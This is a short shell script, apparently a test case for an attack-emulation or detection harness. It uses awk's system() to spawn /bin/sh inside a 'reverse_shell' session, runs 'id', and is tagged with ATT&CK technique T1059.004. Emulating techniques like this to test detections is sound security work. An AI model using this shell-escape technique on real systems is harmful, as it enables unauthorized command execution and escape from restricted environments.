# awk runs sh (through sh -c).
# ATT&CK: T1059.004, T1059
. ./session.sh
reverse_shell <<'TYPED'
awk 'BEGIN {system("/bin/sh")}'
id
exit
exit
TYPED
